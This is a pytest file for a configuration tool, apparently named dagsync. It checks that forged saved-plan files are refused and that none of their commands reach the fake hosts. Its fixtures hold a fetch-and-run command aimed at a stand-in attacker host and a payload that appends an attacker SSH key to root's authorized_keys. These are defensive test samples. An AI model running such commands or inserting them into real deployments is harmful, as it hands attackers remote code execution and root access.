"""`apply --plan FILE` never runs anything that comes from the file: the reviewer's forged
plan (a read `curl ... | sh`, a change whose payload writes root's authorized_keys) is refused
and none of its commands reaches a host; what is applied is always the plan computed again
from the repository and the live hosts, and only while it equals the saved one; a plan saved
at another commit than HEAD is refused.  Hosts are `FakeHost`s recording every command."""

from __future__ import annotations

import json
import os
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from dagsync.commands.reconcile import Scope, run_apply, run_plan
from dagsync.errors import DagsyncError
from dagsync.reconcile.compare import refuse_other_commit, saved_differences
from dagsync.reconcile.core import Action, Change
from dagsync.reconcile.hosts import engine, firewall, work
from dagsync.reconcile.plan import Plan
from dagsync.reconcile.resource import ApplyOptions
from dagsync.reconcile.run import RunOptions, Selection
from dagsync.reconcile.transport import session
from dagsync.reconcile.transport.inventory import (
    HOSTS_FILE_ENV,
    SSH_KEY_ENV,
    SSH_USER_ENV,
    Overrides,
)
from dagsync.validate.repository import Repository, load_repository
from fakes import FakeHost, FakeNetwork, facts_reply, ok
from test_engine_units import NOW, WEB1, nft

EVIL_READ = "curl -s https://evil.example/x | sh"
ATTACKER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerAttackerAttackerAttackerAttacker00 x"
ROOT_KEYS = Change(
    "accounts",
    Action.UPDATE,
    "user root",
    "update user root: + key",
    payload={
        "name": "root",
        "home": "/root",
        "keys": [ATTACKER_KEY],
        "script": f"echo '{ATTACKER_KEY}' >> /root/.ssh/authorized_keys",
    },
)
FORGED_WORDS = ("curl", "evil.example", "authorized_keys", "Attacker")
FIREWALL = frozenset({firewall.KIND})


@pytest.fixture(autouse=True)
def _no_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in (HOSTS_FILE_ENV, SSH_KEY_ENV, SSH_USER_ENV, "DAGSYNC_SSH_KEY_FILE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.delenv("DAGSYNC_OBSERVER", raising=False)


@pytest.fixture
def repo(repo_copy: Path) -> Repository:
    return load_repository(repo_copy)


def network(monkeypatch: pytest.MonkeyPatch, *hosts: FakeHost) -> FakeNetwork:
    net = FakeNetwork(*hosts)
    monkeypatch.setattr(session, "connect", net.connect)
    return net


def options() -> RunOptions:
    return RunOptions(
        kinds=FIREWALL, holder="test", lock_ttl=600, apply=ApplyOptions(confirm_timeout=30.0)
    )


def web1_plan(repo: Repository, monkeypatch: pytest.MonkeyPatch) -> Plan:
    network(monkeypatch, FakeHost(WEB1, [facts_reply({"firewall": nft("empty")})]))
    selection = Selection(("velo-savoie",), ("web1",))
    return engine.plan(repo, selection, Overrides(), options(), now=NOW)


def forged(saved: Plan, *, read: bool, payload: bool) -> Plan:
    (target,) = saved.targets
    if read:
        target = replace(target, reads=(("firewall", EVIL_READ),))
    if payload:
        target = replace(target, changes=(*target.changes, ROOT_KEYS))
    return replace(saved, targets=(target,))


def sent(net: FakeNetwork) -> str:
    out = []
    for host in net.hosts.values():
        for call in host.calls:
            stdin = call.stdin.decode() if isinstance(call.stdin, bytes) else call.stdin or ""
            out.append(call.command + stdin)
    return "\n".join(out)


def apply(repo: Repository, saved: Plan, shown: list[Plan]) -> None:
    def confirm(plan: Plan) -> bool:
        shown.append(plan)
        return True

    engine.apply(repo, Selection(), Overrides(), options(), confirm, saved=saved, now=NOW)


# --- the engine ------------------------------------------------------------------------------


def test_a_forged_read_command_is_refused_before_any_host_is_reached(
    repo: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    saved = forged(web1_plan(repo, monkeypatch), read=True, payload=True)
    net = network(monkeypatch, FakeHost(WEB1, [facts_reply({"firewall": nft("empty")})]))
    shown: list[Plan] = []
    with pytest.raises(DagsyncError) as error:
        apply(repo, saved, shown)
    assert str(error.value) == (
        "the saved plan's read commands of velo-savoie/web1 (firewall) are not the ones the "
        "repository gives: no host was reached, nothing was applied. Run `dagsync plan` again."
    )
    assert net.connects == [] and net[WEB1].log == [] and shown == []


def test_a_forged_payload_is_refused_after_the_repositorys_read_only(
    repo: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    saved = forged(web1_plan(repo, monkeypatch), read=False, payload=True)
    net = network(monkeypatch, FakeHost(WEB1, [facts_reply({"firewall": nft("empty")})]))
    shown: list[Plan] = []
    with pytest.raises(DagsyncError) as error:
        apply(repo, saved, shown)
    assert str(error.value) == (
        "the servers no longer match the saved plan, nothing was applied: velo-savoie/web1: "
        "the saved plan has accounts: update user root: + key, computed now it has not. "
        "Run `dagsync plan` again."
    )
    assert shown == []
    assert len(net[WEB1].calls) == 1  # the repository's read, then the lock released
    assert net[WEB1].log[-2:] == ["release 10", "close"]
    assert not [w for w in FORGED_WORDS if w in sent(net)]


def test_a_payload_changed_under_the_same_summary_is_a_difference(
    repo: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    saved = web1_plan(repo, monkeypatch)
    (target,) = saved.targets
    (change,) = target.changes
    evil = replace(change, payload={**change.payload, "script": EVIL_READ})
    tampered = replace(saved, targets=(replace(target, changes=(evil,)),))
    assert saved_differences(tampered, saved) == [
        "velo-savoie/web1: the saved plan has firewall: create table inet dagsync, computed "
        "now it has not",
        "velo-savoie/web1: computed now the plan has firewall: create table inet dagsync, "
        "the saved plan has not",
    ]
    assert saved_differences(saved, saved) == []


def test_what_is_applied_is_the_plan_computed_now_never_the_files_objects(
    repo: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    saved = Plan.loads(web1_plan(repo, monkeypatch).dumps())  # through JSON, as from a file
    network(monkeypatch, FakeHost(WEB1, [facts_reply({"firewall": nft("empty")}), ok()]))
    monkeypatch.setattr(engine, "_apply_host", lambda o, planned, opts: applied.append(planned))
    applied: list[object] = []
    shown: list[Plan] = []
    with pytest.raises(AttributeError):  # the report cannot be built from the stand-in
        apply(repo, saved, shown)
    (plan,) = shown
    assert plan is not saved and saved_differences(saved, plan) == []
    assert applied == [plan.targets[0]]
    assert all(
        c is not s for c, s in zip(plan.targets[0].changes, saved.targets[0].changes, strict=True)
    )


# --- the command -----------------------------------------------------------------------------


def scope(root: Path) -> Scope:
    return Scope(root, ("velo-savoie",), ("web1",), kinds=("firewall",), deadline=None)


def git(root: Path, *args: str) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com"}
    env |= {"GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.com"}
    done = subprocess.run(
        ["git", *args], cwd=root, env=env, capture_output=True, text=True, check=True
    )
    return done.stdout.strip()


def saved_file(root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    network(monkeypatch, FakeHost(WEB1, [facts_reply({"firewall": nft("empty")})]))
    path = tmp_path / "plan.json"
    assert run_plan(scope(root), "json", detailed_exitcode=True, out=path, echo=lambda s: None) == 2
    return path


def test_the_reviewers_forged_plan_file_is_refused_and_none_of_it_runs(
    repo_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = saved_file(repo_copy, tmp_path, monkeypatch)
    data = json.loads(path.read_text())
    (target,) = data["targets"]
    target["reads"] = [{"kind": "firewall", "command": EVIL_READ}]
    target["changes"].append(ROOT_KEYS.as_json())
    path.write_text(json.dumps(data))
    net = network(monkeypatch, FakeHost(WEB1, [facts_reply({"firewall": nft("empty")})]))
    with pytest.raises(DagsyncError) as error:
        run_apply(scope(repo_copy), yes=True, plan_file=path, record=False)
    assert str(error.value) == (
        "the saved plan does not match the plan computed now from the repository and the "
        "servers, nothing was applied: velo-savoie/web1: the saved read commands (firewall) "
        "are not the repository's (and 1 more difference(s)). Run `dagsync plan` again."
    )
    assert net[WEB1].log == ["connect", "run", "close"]  # the repository's read; no lock
    assert not [w for w in FORGED_WORDS if w in sent(net)]


def test_a_saved_deletion_needs_allow_destroy_before_any_host_is_read(
    repo_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = saved_file(repo_copy, tmp_path, monkeypatch)
    data = json.loads(path.read_text())
    gone = Change("accounts", Action.DELETE, "user old", "delete user old", payload={})
    data["targets"][0]["changes"].append(gone.as_json())
    path.write_text(json.dumps(data))
    net = network(monkeypatch, FakeHost(WEB1))
    with pytest.raises(DagsyncError) as error:
        run_apply(scope(repo_copy), yes=True, plan_file=path, record=False)
    assert str(error.value) == (
        "the plan deletes 1 resource(s) (delete user old): apply it with --allow-destroy"
    )
    assert net.connects == []


def test_an_untouched_plan_file_still_applies(
    repo_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = saved_file(repo_copy, tmp_path, monkeypatch)
    reads = [facts_reply({"firewall": nft("empty")})] * 2
    net = network(monkeypatch, FakeHost(WEB1, [*reads, ok()], fresh_replies=[ok("confirmed")]))
    monkeypatch.setattr(engine, "_apply_host", lambda o, p, opts: _applied(o, p))
    assert run_apply(scope(repo_copy), yes=True, plan_file=path, record=False) == 0
    assert net[WEB1].log[:4] == ["connect", "run", "close", "connect"]  # check, then apply


def _applied(observation: work.Observation, planned: object) -> object:
    from dagsync.reconcile.report import HostResult, HostStatus

    assert observation.session is not None
    observation.session.close()
    return HostResult(observation.work.target, HostStatus.APPLIED)


def test_a_plan_saved_at_another_commit_or_at_none_is_refused(
    repo_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    git(repo_copy, "init", "-q", "-b", "main")
    git(repo_copy, "add", "-A")
    git(repo_copy, "commit", "-qm", "first")
    first = git(repo_copy, "rev-parse", "HEAD")
    path = saved_file(repo_copy, tmp_path, monkeypatch)
    assert json.loads(path.read_text())["commit"] == first
    git(repo_copy, "commit", "-q", "--allow-empty", "-m", "second")
    head = git(repo_copy, "rev-parse", "HEAD")
    net = network(monkeypatch, FakeHost(WEB1))
    with pytest.raises(DagsyncError) as error:
        run_apply(scope(repo_copy), yes=True, plan_file=path, record=False)
    assert str(error.value) == (
        f"the saved plan was computed at {first[:12]}, but HEAD is {head[:12]}: nothing was "
        "applied. Run `dagsync plan` again at HEAD."
    )
    data = json.loads(path.read_text())
    data["commit"] = None
    path.write_text(json.dumps(data))
    with pytest.raises(DagsyncError, match=r"^the saved plan was computed at no commit, but"):
        run_apply(scope(repo_copy), yes=True, plan_file=path, record=False)
    assert net.connects == []


def test_refuse_other_commit_accepts_only_the_same_commit() -> None:
    plan = Plan((), "t", commit="a" * 40)
    refuse_other_commit(plan, "a" * 40)
    refuse_other_commit(Plan((), "t"), None)  # outside git: nothing to compare
    with pytest.raises(DagsyncError, match=r"^the saved plan was computed at aaaaaaaaaaaa, "):
        refuse_other_commit(plan, None)
